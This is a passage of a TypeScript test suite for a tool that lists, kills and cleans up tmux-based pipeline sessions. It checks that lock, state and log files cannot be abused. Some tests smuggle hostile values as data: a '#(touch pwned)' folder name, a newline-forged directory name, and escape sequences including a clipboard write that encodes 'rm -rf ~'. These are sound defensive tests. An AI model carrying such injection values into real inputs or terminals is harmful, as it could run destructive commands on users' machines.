    const scan = JSON.parse((await cli(['cleanup', '--json', '-C', root])).stdout)
    expect(scan.problems.map((p: { problem: string }) => p.problem).sort()).toEqual(['leftover_processes', 'stale_lock', 'zombie_state'])
    const run = await cli(['cleanup', '--yes', '--grace', '1', '-C', root])
    expect(run.code).toBe(0)
    for (const pid of agents) expect(isPidAlive(pid)).toBe(false)
    expect(existsSync(lockFile)).toBe(false)
    expect(readJson(path.join(root, '.claude/pipeline-runs/shot/state.json')).status).toBe('unknown_termination')
    expect(workSnapshot(root)).toEqual(work)
    expect(await processesOf(root)).toEqual([])
  })

  test('bad files: reported by list, status and cleanup, never a crash, never rewritten or deleted', async () => {
    const root = await makeProject('bad-files')
    const claude = path.join(root, '.claude')
    const addSession = (name: string) =>
      cpSync(path.join(LAYOUTS, 'complete-loop/.claude/pipeline-runs/done-loop'), path.join(claude, 'pipeline-runs', name), {
        recursive: true,
      })
    for (const [name, pid] of [
      ['negative-pid', -5],
      ['huge-pid', 99_999_999_999],
      ['string-pid', '123'],
    ] as const) {
      addSession(name)
      writeFileSync(path.join(claude, 'locks', `${name}.lock`), JSON.stringify({ session: name, pid, started_at: '2026-01-01T00:00:00Z' }))
    }
    addSession('loop-state')
    rmSync(path.join(claude, 'pipeline-runs/loop-state/state.json'))
    symlinkSync('state.json', path.join(claude, 'pipeline-runs/loop-state/state.json'))
    // A state with unknown fields and a 7 MB history (under the 8 MiB read: above, it is corrupt), left
    // running by nothing: a zombie.
    addSession('huge')
    const huge = readJson(path.join(claude, 'pipeline-runs/huge/state.json'))
    const entry = huge.history[0]
    const history = Array.from({ length: 10_000 }, (_, i) => ({ ...entry, iteration: i + 1, summary: 'x'.repeat(400), custom: { i } }))
    writeFileSync(
      path.join(claude, 'pipeline-runs/huge/state.json'),
      JSON.stringify({ ...huge, status: 'running', history, unknown_field: { kept: true } }),
    )
    const hugeBefore = readFileSync(path.join(claude, 'pipeline-runs/huge/state.json'), 'utf8')
    expect(hugeBefore.length).toBeGreaterThan(6_000_000)
    expect(hugeBefore.length).toBeLessThan(8 * 1024 * 1024)
    const badBefore = Object.fromEntries(Object.entries(snapshot(root)).filter(([file]) => !file.includes('pipeline-runs/huge/')))

    const rows = (await listJson(root)).sessions
    expect(Object.fromEntries(rows.map((r) => [r.name, r.health]))).toMatchObject({
      'negative-pid': 'corrupt',
      'huge-pid': 'corrupt',
      'string-pid': 'corrupt',
      'loop-state': 'corrupt',
      huge: 'zombie',
    })
    expect(rowOf(rows, 'loop-state').why).toBe('corrupt: state.json: is a symlink, which this tool never follows')
    for (const name of ['negative-pid', 'huge-pid', 'loop-state', 'huge']) expect((await cli(['status', name, '-C', root])).code).toBe(0)
    const run = await cli(['cleanup', '--yes', '--json', '-C', root])
    expect(run.code).toBe(0)
    const result = JSON.parse(run.stdout)
    expect(result.problems.map((p: { name: string; problem: string }) => `${p.name}:${p.problem}`)).toEqual(['huge:zombie_state'])
    expect(result.corrupt.map((c: { name: string }) => c.name).sort()).toEqual([
      'dir-lock',
      'dir-state',
      'empty-lock',
      'empty-state',
      'huge-pid',
      'loop-state',
      'negative-pid',
      'nonjson-lock',
      'nonjson-state',
      'string-pid',
      'truncated-lock',
      'truncated-state',
      'wrongtype-state',
    ])
    expect(Object.fromEntries(Object.entries(snapshot(root)).filter(([file]) => !file.includes('pipeline-runs/huge/')))).toEqual(badBefore)
    const after = readJson(path.join(claude, 'pipeline-runs/huge/state.json'))
    expect(after).toEqual({ ...JSON.parse(hugeBefore), status: 'unknown_termination', terminated_at: expect.any(String) })
  })
})

describe("identity: nothing is signalled, killed or misplaced that is not the session's (faults inflicted for real)", () => {
  /** A crashed-loop project whose lock names `pid`, dated `startedAt`, beside an orphaned tmux session of the same name. */
  async function lockNaming(pid: number, startedAt: string): Promise<string> {
    const root = await makeProject('crashed-loop')
    writeFileSync(path.join(root, '.claude/locks/busy.lock'), JSON.stringify({ session: 'busy', pid, started_at: startedAt }))
    tmux('new-session', '-d', '-s', 'pipeline-busy', '-c', root, 'sleep 3600')
    return root
  }

  test('a lock naming an unrelated process older than the lock, or dated in the future: crashed, never signalled', async () => {
    const sleeper = startSleeper()
    await new Promise((resolve) => setTimeout(resolve, 1100))
    for (const startedAt of [isoSeconds(Date.now()), isoSeconds(Date.now() + 3600_000)]) {
      const root = await lockNaming(sleeper, startedAt)
      const row = rowOf((await listJson(root, '--start-grace', '0')).sessions, 'busy')
      expect(row).toMatchObject({ health: 'orphaned', lock: { pid: sleeper, alive: true, genuine: false, proof: null } })
      expect(row.evidence).toContain(`lock PID ${sleeper} is alive but is \`sleep 3600\` in ${HERE}, not the engine of busy`)
      expect((await cli(['kill', 'busy', '--grace', '1', '-C', root])).code).toBe(0)
      expect((await cli(['cleanup', '--yes', '--grace', '1', '-C', root])).code).toBe(0)
      expect(isPidAlive(sleeper), startedAt).toBe(true)
    }
  })

  test("a lock naming the caller's own shell: the caller survives kill and cleanup --yes", () => {
    return (async () => {
      const root = await lockNaming(1, isoSeconds(Date.now()))
      const lock = path.join(root, '.claude/locks/busy.lock')
      const script = [
        `printf '{"session":"busy","pid":%s,"started_at":"2026-01-01T00:00:00Z"}' $$ > '${lock}'`,
        `'${TSX}' '${SESSIONS}' kill busy --grace 1 -C '${root}' > /dev/null`,
        `'${TSX}' '${SESSIONS}' cleanup --yes --grace 1 --start-grace 0 -C '${root}' > /dev/null`,
        'echo "the shell survived"',
      ].join('; ')
      const run = spawnSync('sh', ['-c', script], { env: ENV, encoding: 'utf8' })
      expect(run.signal).toBeNull()
      expect(run.stdout).toBe('the shell survived\n')
      // A lock naming PID 1 or this test's own process is never the engine either.
      for (const pid of [1, process.pid]) {
        writeFileSync(lock, JSON.stringify({ session: 'busy', pid, started_at: isoSeconds(Date.now()) }))
        expect(rowOf((await listJson(root)).sessions, 'busy').lock).toMatchObject({ genuine: false })
      }
    })()
  })

  test('clocks that disagree by minutes (a back-dated or future lock): a live engine stays running, in flock and noclobber mode', async () => {
    for (const lockMode of ['flock', 'noclobber']) {
      const root = await makeEngineProject()
      const name = `clock-${lockMode}`
      const { lock, enginePid } = await startHungAgent(root, name, { MOCK_LOCK: lockMode })
      for (const shift of [-600_000, 600_000]) {
        const value = readJson(lock)
        writeFileSync(lock, JSON.stringify({ ...value, started_at: isoSeconds(Date.now() + shift) }))
        const row = rowOf((await listJson(root)).sessions, name)
        expect(row, `${lockMode} ${shift}`).toMatchObject({
          health: 'running',
          lock: { genuine: true, proof: lockMode === 'flock' ? 'flock' : 'command_line' },
        })
        expect((await cli(['cleanup', '--yes', '--start-grace', '0', '-C', root])).code).toBe(0)
        expect(isPidAlive(enginePid)).toBe(true)
      }
    }
  })

  test("a renamed tmux session: still its session's, never an orphan; a pane that runs another session's engine is never killed as one", async () => {
    const root = await makeEngineProject()
    const { enginePid } = await startHungAgent(root, 'moved')
    tmux('rename-session', '-t', '=pipeline-moved', 'my-work')
    expect(rowOf((await listJson(root)).sessions, 'moved')).toMatchObject({ health: 'running', tmux: { session: 'my-work' } })
    // An engine launched by hand in a tmux session whose name is another session's (no mark).
    tmux('new-session', '-d', '-s', 'pipeline-other', '-c', root, '-e', 'MOCK_END=hang:1', './scripts/run.sh ralph real 5 --foreground')
    // (Its lock is created, then written: its PID once it is there.)
    const handPid: number = await waitFor('the hand-started engine', () => readJson(path.join(root, '.claude/locks/real.lock')).pid)
    const clean = JSON.parse((await cli(['cleanup', '--yes', '--start-grace', '0', '--json', '-C', root])).stdout)
    expect(clean.problems).toEqual([])
    expect(isPidAlive(enginePid) && isPidAlive(handPid)).toBe(true)
    const other = await cli(['kill', 'other', '-C', root])
    expect(other.code).toBe(1)
    expect(other.stderr).toMatch(
      /tmux session pipeline-other runs the engine of real \(PID \d+\), not other's; not killed \(kill real instead\)/,
    )
    expect(isPidAlive(handPid)).toBe(true)
    const killed = JSON.parse((await cli(['kill', 'moved', '--json', '-C', root])).stdout)
    expect(killed[0]).toMatchObject({ outcome: 'killed', tmux_removed: true })
    expect(isPidAlive(enginePid)).toBe(false)
    expect(tmuxSessionNames()).not.toContain('my-work')
  })

  test('a project path with # and #(…): the engine runs in that very folder, and nothing is run by tmux', async () => {
    const base = path.join(BASE, `C#-${++projects}`, '#(touch pwned)#{session_name}')
    mkdirSync(base, { recursive: true })
    cpSync(path.join(LAYOUTS, 'empty'), base, { recursive: true })
    rmSync(path.join(base, 'FACTS.json'))
    cpSync(ENGINE, path.join(base, 'scripts'), { recursive: true })
    const { enginePid } = await startHungAgent(base, 'hash')
    expect(readlinkSync(`/proc/${enginePid}/cwd`)).toBe(base)
    expect(rowOf((await listJson(base)).sessions, 'hash')).toMatchObject({ health: 'running', tmux: { session: 'pipeline-hash' } })
    const log = path.join(base, '.claude/pipeline-runs/hash/session-output.log')
    await waitFor('the kept output', () => existsSync(log) && readFileSync(log, 'utf8').includes('Iteration 1'))
    expect((await cli(['kill', 'hash', '-C', base])).code).toBe(0)
    for (const dir of [base, path.dirname(base), HERE, BASE, '/']) expect(existsSync(path.join(dir, 'pwned')), dir).toBe(false)
  })

  test('a start directory holding a newline and field separators cannot forge a session or get a PID signalled', async () => {
    const root = await makeProject('empty')
    const victim = startSleeper()
    const forged = path.join(root, `x\npipeline-evil\x1f${root}\x1f1700000000\x1f0\x1f${victim}\x1f0\x1f`)
    mkdirSync(forged, { recursive: true })
    tmux('new-session', '-d', '-s', 'pipeline-forger', '-c', forged, 'sleep 3600')
    const rows = (await listJson(root, '--start-grace', '0')).sessions
    expect(rows.map((r) => r.name)).toEqual(['forger'])
    expect((await cli(['cleanup', '--yes', '--grace', '1', '--start-grace', '0', '-C', root])).code).toBe(0)
    expect((await cli(['kill', 'evil', '-C', root])).code).toBe(1)
    expect(isPidAlive(victim)).toBe(true)
  })

  test("a start from a shell carrying another run's tag, on another socket: the new tmux server carries no tag and outlives a kill of that run", async () => {
    const root = await makeEngineProject()
    const { enginePid } = await startHungAgent(root, 'first')
    const tag = `${path.join(root, '.claude/pipeline-runs/first')}:${enginePid}`
    const other = `${SOCKET}b`
    try {
      expect(
        (
          await cli(['start', 'ralph', 'second', '--yes', '--socket', other, '-C', root], {
            env: { SESSIONS_TS_RUN: tag, MOCK_END: 'hang:1' },
          })
        ).code,
      ).toBe(0)
      const server = Number(
        spawnSync('tmux', ['-L', other, 'display-message', '-p', '#{pid}'], { env: ENV, encoding: 'utf8' }).stdout.trim(),
      )
      expect(readFileSync(`/proc/${server}/environ`, 'utf8')).not.toContain('SESSIONS_TS_RUN=')
      const second = readJson(path.join(root, '.claude/locks/second.lock')).pid
      expect(readFileSync(`/proc/${second}/environ`, 'utf8').split('\0')).toContain(
        `SESSIONS_TS_RUN=${path.join(root, '.claude/pipeline-runs/second')}:${second}`,
      )
      expect((await cli(['kill', 'first', '--grace', '1', '-C', root])).code).toBe(0)
      expect((await cli(['cleanup', '--yes', '--grace', '1', '-C', root])).code).toBe(0)
      expect(isPidAlive(server) && isPidAlive(second)).toBe(true)
      expect((await cli(['list', '--json', '--socket', other, '-C', root])).stdout).toMatch(/"health": "running"/)
    } finally {
      spawnSync('tmux', ['-L', other, 'kill-server'], { env: ENV })
    }
  })

  test('a non-ASCII project path under LC_ALL=C: its own sessions are its own (list, cleanup, kill)', async () => {
    const root = path.join(BASE, `projé-ü-${++projects}`)
    cpSync(path.join(LAYOUTS, 'empty'), root, { recursive: true })
    rmSync(path.join(root, 'FACTS.json'))
    cpSync(ENGINE, path.join(root, 'scripts'), { recursive: true })
    const C = { LC_ALL: 'C', LANG: 'C' }
    expect((await cli(['start', 'ralph', 'accent', '--yes', '-C', root], { env: { ...C, MOCK_END: 'hang:1' } })).code).toBe(0)
    spawnSync('tmux', ['-L', SOCKET, 'new-session', '-d', '-s', 'pipeline-stray', '-c', root, 'sleep 3600'], { env: { ...ENV, ...C } })
    const rows = JSON.parse((await cli(['list', '--json', '--start-grace', '0', '-C', root], { env: C })).stdout).sessions as SessionRow[]
    expect(Object.fromEntries(rows.map((r) => [r.name, r.health]))).toEqual({ accent: 'running', stray: 'orphaned' })
    expect((await cli(['cleanup', '--yes', '--grace', '1', '--start-grace', '0', '-C', root], { env: C })).stdout).toMatch(
      /stray — tmux session pipeline-stray .* → removed pipeline-stray/,
    )
    expect((await cli(['kill', 'accent', '-C', root], { env: C })).stdout).toMatch(/^killed accent/)
    expect(tmuxSessionNames().filter((n) => /accent|stray/.test(n))).toEqual([])
  })
})

describe('nothing in .claude/ can make it write outside the project, hang, crash or lie (faults inflicted for real)', () => {
  /** A file outside the project whose bytes must never change, and a path outside that must never appear. */
  function outside(label: string) {
    const dir = path.join(BASE, `outside-${label}-${++projects}`)
    mkdirSync(dir, { recursive: true })
    const file = path.join(dir, 'bashrc')
    writeFileSync(file, 'export PS1=mine\n')
    return { dir, file, missing: path.join(dir, 'created-through-a-link'), untouched: () => snapshot(dir) }
  }

  test('a symlinked session-output.log, dangling or existing: start refuses to append through it, kill never writes through it', async () => {
    for (const dangling of [true, false]) {
      const root = await makeEngineProject('crashed-loop')
      const away = outside('log')
      const before = away.untouched()
      const log = path.join(root, '.claude/pipeline-runs/busy/session-output.log')
      symlinkSync(dangling ? away.missing : away.file, log)
      const run = await cli(['resume', 'busy', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })
      expect(run.code, run.stderr).toBe(1)
      expect(run.stderr).toBe('sessions: refusing to write to .claude/pipeline-runs/busy/session-output.log: it is a symlink\n')
      expect(tmuxSessionNames()).not.toContain('pipeline-busy')
      // A session not started by this tool, killed: its pane's text is not kept through the link.
      rmSync(path.join(root, '.claude/locks/busy.lock'))
      tmux('new-session', '-d', '-s', 'pipeline-busy', '-c', root, 'echo pane text; sleep 3600')
      expect((await cli(['kill', 'busy', '--grace', '1', '-C', root])).code).toBe(0)
      expect(away.untouched()).toEqual(before)
      killServer()
    }
  })

  test('a state, a run folder or the locks folder that links out of the project: reported, never written or removed through', async () => {
    const root = await makeProject('crashed-loop')
    const away = outside('run')
    // The run folder of "evil" lives outside; so does the whole locks folder.
    cpSync(path.join(root, '.claude/pipeline-runs/busy'), path.join(away.dir, 'evil-run'), { recursive: true })
    symlinkSync(path.join(away.dir, 'evil-run'), path.join(root, '.claude/pipeline-runs/evil'))
    cpSync(path.join(root, '.claude/locks'), path.join(away.dir, 'locks'), { recursive: true })
    writeFileSync(
      path.join(away.dir, 'locks/evil.lock'),
      JSON.stringify({ session: 'evil', pid: await deadPid(), started_at: '2026-01-01T00:00:00Z' }),
    )
    rmSync(path.join(root, '.claude/locks'), { recursive: true })
    symlinkSync(path.join(away.dir, 'locks'), path.join(root, '.claude/locks'))
    // Elsewhere, a zombie whose state is itself a link to a file outside.
    const zombie = await makeProject('tmux-killed-loop')
    const hup = path.join(zombie, '.claude/pipeline-runs/hup/state.json')
    cpSync(hup, path.join(away.dir, 'hup-state.json'))
    rmSync(hup)
    symlinkSync(path.join(away.dir, 'hup-state.json'), hup)
    const before = away.untouched()
    const rows = (await listJson(root)).sessions
    expect(rowOf(rows, 'evil')).toMatchObject({ health: 'corrupt', why: 'corrupt: locks is a link outside the project' })
    expect(rowOf(rows, 'busy')).toMatchObject({ health: 'corrupt', why: 'corrupt: locks is a link outside the project' })
    const clean = await cli(['cleanup', '--yes', '--json', '-C', root])
    expect(JSON.parse(clean.stdout).problems).toEqual([])
    expect((await cli(['kill', 'evil', 'busy', '-C', root])).code).toBe(0)
    // A state that is a link is never read (nor written): the session is corrupt, and left as it is.
    expect(rowOf((await listJson(zombie)).sessions, 'hup')).toMatchObject({
      health: 'corrupt',
      why: 'corrupt: state.json: is a symlink, which this tool never follows',
    })
    const refused = await cli(['cleanup', '--yes', '--json', '-C', zombie])
    expect(refused.code).toBe(0)
    expect(JSON.parse(refused.stdout)).toMatchObject({ corrupt: [expect.objectContaining({ name: 'hup' })] })
    expect(JSON.parse(refused.stdout).problems.filter((p: { name: string }) => p.name === 'hup')).toEqual([])
    expect(away.untouched()).toEqual(before)
  })

  test('a FIFO or a link to /dev/stdin where a lock or state should be: every command answers, none hangs', async () => {
    const root = await makeProject('crashed-loop')
    const claude = path.join(root, '.claude')
    const addSession = (name: string) =>
      cpSync(path.join(claude, 'pipeline-runs/busy'), path.join(claude, 'pipeline-runs', name), { recursive: true })
    addSession('fifo-state')
    rmSync(path.join(claude, 'pipeline-runs/fifo-state/state.json'))
    execFileSync('mkfifo', [path.join(claude, 'pipeline-runs/fifo-state/state.json')])
    addSession('fifo-lock')
    execFileSync('mkfifo', [path.join(claude, 'locks/fifo-lock.lock')])
    addSession('stdin-lock')
    symlinkSync('/dev/stdin', path.join(claude, 'locks/stdin-lock.lock'))
    const bounded = (args: string[]) => {
      // stdin is a pipe held open and never written: a blocking read of /dev/stdin would wait forever.
      const result = spawnSync(TSX, [SESSIONS, ...args, '-C', root], {
        env: ENV,
        encoding: 'utf8',
        timeout: 20_000,
        stdio: ['pipe', 'pipe', 'pipe'],
      })
      expect(result.signal, `${args.join(' ')} hung`).toBeNull()
      return result
    }
    const list = JSON.parse(bounded(['list', '--json']).stdout)
    expect(rowOf(list.sessions, 'fifo-state').why).toBe('corrupt: state.json: is a FIFO, not a file')
    expect(rowOf(list.sessions, 'fifo-lock').why).toBe('corrupt: fifo-lock.lock: is a FIFO, not a file')
    expect(rowOf(list.sessions, 'stdin-lock').health).toBe('corrupt')
    for (const args of [
      ['status', 'fifo-state'],
      ['status', 'fifo-lock'],
      ['kill', 'fifo-lock'],
      ['cleanup', '--yes'],
      ['list', '--names'],
      ['list'],
    ]) {
      expect(bounded(args).status, args.join(' ')).toBe(0)
    }
  })

  test('a status named after Object.prototype: corrupt, and list and status work for the whole project', async () => {
    const root = await makeProject('complete-loop')
    for (const status of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
      const dir = path.join(root, '.claude/pipeline-runs', `proto-${status.replace(/_/g, 'u')}`)
      cpSync(path.join(root, '.claude/pipeline-runs/done-loop'), dir, { recursive: true })
      const state = readJson(path.join(dir, 'state.json'))
      writeFileSync(path.join(dir, 'state.json'), JSON.stringify({ ...state, status }))
    }
    const rows = (await listJson(root)).sessions
    expect(rows.filter((r) => r.name.startsWith('proto-')).map((r) => r.health)).toEqual(['corrupt', 'corrupt', 'corrupt', 'corrupt'])
    const text = await cli(['list', '-C', root])
    expect(text.code).toBe(0)
    expect(text.stdout).toMatch(/proto-constructor .*corrupt/)
    expect((await cli(['status', 'proto-uuprotouu', '-C', root])).stdout).toContain('state.json has an unknown status "__proto__"')
  })

  test('agent-written text with escape sequences never reaches the terminal raw; --json keeps it exactly', async () => {
    const root = await makeProject('crashed-loop')
    const evil = 'done\x1b]0;pwned title\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\x07\x08\r!'
    const stateFile = path.join(root, '.claude/pipeline-runs/busy/state.json')
    const state = readJson(stateFile)
    state.history[1].summary = `summary ${evil}`
    state.history[1].reason = `reason ${evil}`
    state.history[1].stage = `improve-plan${evil}`
    writeFileSync(stateFile, JSON.stringify({ ...state, type: `loop${evil}`, completion_reason: `why ${evil}` }))
    tmux('new-session', '-d', '-s', 'pipeline-busy', '-c', root, `printf 'pane %b\\n' '\\033]0;pane title\\007\\033[2Jafter'; sleep 3600`)
    await waitFor('the pane line', () => paneText('=pipeline-busy:').includes('after'))
    const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/
    for (const args of [['list'], ['status', 'busy'], ['monitor', 'busy'], ['cleanup'], ['kill', 'busy', '--grace', '1']]) {
      const run = await cli([...args, '-C', root])
      expect(run.stdout + run.stderr, args.join(' ')).not.toMatch(raw)
    }
    const json = JSON.parse((await cli(['status', 'busy', '--json', '-C', root])).stdout)
    expect(json.recent_iterations[0].summary).toBe(`summary ${evil}`)
  })

  test('an iteration folder without context.json (a crash between the two): the max comes from the one before, and says so', async () => {
    const root = await makeProject('crashed-loop')
    mkdirSync(path.join(root, '.claude/pipeline-runs/busy/stage-00-improve-plan/iterations/003'))
    const row = rowOf((await listJson(root)).sessions, 'busy')
    expect(row).toMatchObject({ max_iterations: 50, resume_command: hinted('resume busy', root) })
    expect(row.evidence).toContain("max 50 from iteration 2's context.json (iteration 3 has none readable yet)")
  })

  test('130,000 entries in one folder, and a closed stdout (| head -1): no stack overflow, no EPIPE trace', async () => {
    const root = await makeProject('crashed-loop')
    const iterations = path.join(root, '.claude/pipeline-runs/busy/stage-00-improve-plan/iterations')
    for (let i = 1000; i < 131_000; i++) writeFileSync(path.join(iterations, String(i)), '')
    for (let i = 0; i < 60; i++)
      cpSync(path.join(LAYOUTS, 'complete-loop/.claude/pipeline-runs/done-loop'), path.join(root, `.claude/pipeline-runs/many-${i}`), {
        recursive: true,
      })
    const run = await cli(['list', '--json', '-C', root])
    expect(run.stderr).toBe('')
    expect(rowOf(JSON.parse(run.stdout).sessions, 'busy').health).toBe('crashed')
    const piped = spawnSync('sh', ['-c', `'${TSX}' '${SESSIONS}' list --json -C '${root}' | head -1; echo "exit=\${PIPESTATUS:-}"`], {
      env: ENV,
      encoding: 'utf8',
    })
    expect(piped.stdout).toMatch(/^\{\n/)
    expect(piped.stderr).toBe('')
  })

  test('environment values ending in ";", holding newlines, quotes and $, reach the engine byte for byte', async () => {
    const root = await makeEngineProject()
    const values = { PROMPT_COMMAND: 'history -a;', SESSIONS_TEST_SEMI: 'a\\;', SESSIONS_TEST_QUOTES: `it's "quoted" $HOME \`x\`\nline 2` }
    const { enginePid } = await startHungAgent(root, 'envy', values)
    const environ = readFileSync(`/proc/${enginePid}/environ`, 'utf8').split('\0')
    for (const [key, value] of Object.entries(values)) expect(environ).toContain(`${key}=${value}`)
  })

  test("a start refused by tmux (that name is another project's tmux session) leaves nothing behind", async () => {
    const root = await makeEngineProject()
    const other = await makeProject('empty')
    tmux('new-session', '-d', '-s', 'pipeline-taken', '-c', other, 'sleep 3600')
    const before = snapshot(root)
    const run = await cli(['start', 'ralph', 'taken', '--yes', '-C', root])
    expect(run.code).toBe(1)
    expect(run.stderr).toMatch(/^sessions: tmux new-session failed: duplicate session: pipeline-taken\n$/)
    expect(snapshot(root)).toEqual(before)
    expect((await cli(['start', 'ralph', 'taken-2', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })).code).toBe(0)
  })

  test('two start --force of one name at once: one starts, the other says another start is under way', async () => {
    const root = await makeEngineProject('crashed-loop')
    const runs = await Promise.all(
      [0, 1].map(
        () =>
          new Promise<Run>((resolve) => {
            const child = spawn(TSX, [SESSIONS, 'start', 'improve-plan', 'busy', '3', '--force', '--yes', '-C', root], {
              env: { ...ENV, MOCK_PACE: '5' },
            })
            let stdout = ''
            let stderr = ''
            child.stdout.on('data', (d) => {
              stdout += d
            })
            child.stderr.on('data', (d) => {
              stderr += d
            })
            child.on('exit', (code) => resolve({ code, stdout, stderr }))
          }),
      ),
    )
    expect(runs.map((r) => r.code).sort()).toEqual([0, 1])
    expect(runs.find((r) => r.code === 1)!.stderr).toMatch(
      // Under way when the two overlap; once the winner has verified its start, the loser's own checks see it live.
      /^sessions: (another start of busy is under way|session busy is (running|starting): --force does not replace a live session)/,
    )
    expect(readdirSync(path.join(root, '.claude/pipeline-runs')).filter((e) => e.startsWith('busy.replaced-'))).toHaveLength(1)
    expect(rowOf((await listJson(root)).sessions, 'busy').health).toBe('running')
    expect(existsSync(path.join(root, '.claude/sessions-start-busy.lock'))).toBe(false)
  })

  test('a cleanup lock naming an unrelated live process does not block cleanup --yes', async () => {
    const root = await makeProject('crashed-loop')
    writeFileSync(path.join(root, '.claude/sessions-cleanup.lock'), `${startSleeper()}\n`)
    const started = Date.now()
    const run = await cli(['cleanup', '--yes', '-C', root])
    expect(run.code).toBe(0)
    expect(Date.now() - started).toBeLessThan(30_000)
    expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
  })

  test('names the engine accepts (capitals, underscores) can be resumed with the command suggested', async () => {
    const root = await makeEngineProject('crashed-loop')
    const claude = path.join(root, '.claude')
    renameSync(path.join(claude, 'pipeline-runs/busy'), path.join(claude, 'pipeline-runs/My_Sess'))
    renameSync(path.join(claude, 'locks/busy.lock'), path.join(claude, 'locks/My_Sess.lock'))
    const row = rowOf((await listJson(root)).sessions, 'My_Sess')
    expect(row.resume_command).toBe(hinted('resume My_Sess', root))
    const run = await cli([...row.resume_command!.split(' ').slice(2), '--yes', '-C', root], { env: { MOCK_PACE: '5' } })
    expect(withoutWaits(run.stderr)).toBe('')
    expect(run.code).toBe(0)
  })
})

describe('links, copies and odd arguments: nothing is taken for what it is not (faults inflicted for real)', () => {
  test("a lock linked (symbolic or hard) to another engine's lock, or copied from it, proves nothing: never running, never its kill", async () => {
    const other = await makeEngineProject()
    const { enginePid } = await startHungAgent(other, 'theirs')
    const root = await makeEngineProject()
    const locks = path.join(root, '.claude/locks')
    mkdirSync(locks, { recursive: true })
    const theirs = path.join(other, '.claude/locks/theirs.lock')
    symlinkSync(theirs, path.join(locks, 'sym.lock'))
    execFileSync('ln', [theirs, path.join(locks, 'hard.lock')])
    // A copy inside its own project, under the name of its stage type and of its max.
    for (const name of ['ralph', '25']) cpSync(theirs, path.join(other, '.claude/locks', `${name}.lock`))
    const rows = (await listJson(root)).sessions
    expect(rowOf(rows, 'sym')).toMatchObject({ health: 'corrupt', why: 'corrupt: sym.lock: is a symlink' })
    expect(rowOf(rows, 'hard')).toMatchObject({ health: 'corrupt', why: 'corrupt: hard.lock: has another hard link' })
    const copies = (await listJson(other)).sessions
    for (const name of ['ralph', '25']) expect(rowOf(copies, name), name).toMatchObject({ health: 'crashed', lock: { genuine: false } })
    for (const [project, name] of [
      [root, 'sym'],
      [root, 'hard'],
      [other, 'ralph'],
      [other, '25'],
    ] as const) {
      await cli(['kill', name, '--grace', '1', '-C', project])
    }
    expect(isPidAlive(enginePid)).toBe(true)
    expect(rowOf((await listJson(other)).sessions, 'theirs').health).toBe('running')
  })

  test('a locks folder or .claude/ linked out of the project: its sessions are corrupt, never running, never signalled', async () => {
    const other = await makeEngineProject()
    const { enginePid } = await startHungAgent(other, 'victim')
    for (const link of ['.claude/locks', '.claude']) {
      const root = path.join(BASE, `linked-${++projects}`)
      mkdirSync(path.join(root, path.dirname(link)), { recursive: true })
      symlinkSync(path.join(other, link), path.join(root, link))
      const row = rowOf((await listJson(root)).sessions, 'victim')
      expect(row.health, link).toBe('corrupt')
      expect(row.why).toMatch(/is a link outside the project/)
      await cli(['kill', 'victim', '--grace', '1', '-C', root])
      await cli(['cleanup', '--yes', '--grace', '1', '--start-grace', '0', '-C', root])
      expect(isPidAlive(enginePid), link).toBe(true)
    }
  })

  test("a pane started here that runs another project's engine is never an orphan: cleanup --yes leaves it", async () => {
    const root = await makeEngineProject()
    const elsewhere = await makeEngineProject()
    tmux(
      'new-session',
      '-d',
      '-s',
      'pipeline-cross',
      '-c',
      root,
      '-e',
      'MOCK_END=hang:1',
      `cd '${elsewhere}' && exec ./scripts/run.sh ralph far 5 --foreground`,
    )
    const lock = path.join(elsewhere, '.claude/locks/far.lock')
    await waitFor('the engine elsewhere', () => existsSync(lock) && readJson(lock).pid)
    const pid = readJson(lock).pid
    expect(rowOf((await listJson(root, '--start-grace', '0')).sessions, 'cross').health).not.toBe('orphaned')
    expect((await cli(['cleanup', '--yes', '--grace', '1', '--start-grace', '0', '-C', root])).code).toBe(0)
    expect(isPidAlive(pid)).toBe(true)
  })

  test("a run folder that is a link, even inside the project, is another session's files: corrupt, never rewritten", async () => {
    const root = await makeEngineProject()
    await startHungAgent(root, 'real')
    symlinkSync('real', path.join(root, '.claude/pipeline-runs/alias'))
    const state = path.join(root, '.claude/pipeline-runs/real/state.json')
    expect(rowOf((await listJson(root)).sessions, 'alias')).toMatchObject({
      health: 'corrupt',
      why: 'corrupt: pipeline-runs/alias is a link',
    })
    await cli(['cleanup', '--yes', '--start-grace', '0', '-C', root])
    expect(readJson(state).status).toBe('running')
    expect((await cli(['resume', 'alias', '--yes', '-C', root])).code).toBe(1)
  })

  test('a session-output.log hard-linked to a file outside is never appended to', async () => {
    const root = await makeEngineProject('crashed-loop')
    const outside = path.join(BASE, `outside-hard-${++projects}`)
    writeFileSync(outside, 'precious\n')
    execFileSync('ln', [outside, path.join(root, '.claude/pipeline-runs/busy/session-output.log')])
    const run = await cli(['resume', 'busy', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })
    expect(run.code).toBe(1)
    expect(run.stderr).toBe('sessions: refusing to append to .claude/pipeline-runs/busy/session-output.log: it has another hard link\n')
    expect(readFileSync(outside, 'utf8')).toBe('precious\n')
  })

  test('arguments ending in ";" reach tmux and the engine whole: a project folder, a context, a pipeline file', async () => {
    const root = path.join(BASE, `semi;-${++projects}`, 'repo;')
    mkdirSync(root, { recursive: true })
    cpSync(ENGINE, path.join(root, 'scripts'), { recursive: true })
    cpSync(path.join(ENGINE, 'pipelines/refine.yaml'), path.join(root, 'evil;'))
    const record = path.join(BASE, `record-${projects}.jsonl`)
    const env = { MOCK_PACE: '5', MOCK_RECORD: record }
    expect(withoutWaits((await cli(['start', 'ralph', 'semi', '--context=do A; then B;', '--yes', '-C', root], { env })).stderr)).toBe('')
    expect(withoutWaits((await cli(['start', 'pipeline', 'evil;', 'piped', '--yes', '-C', root], { env, cwd: root })).stderr)).toBe('')
    const [first, second] = records(record)
    expect(first.argv).toContain('--context=do A; then B;')
    expect(second.argv.slice(0, 3)).toEqual(['pipeline', 'evil;', 'piped'])
    expect(tmuxSessionNames()).toEqual(['pipeline-piped', 'pipeline-semi'])
  })

  test('a start lock or cleanup lock naming a live process that is not this tool is stale', async () => {
    const root = await makeEngineProject()
    const sleeper = startSleeper()
    const stamp = Number(readFileSync(`/proc/${sleeper}/stat`, 'utf8').split(') ')[1].split(' ')[19])
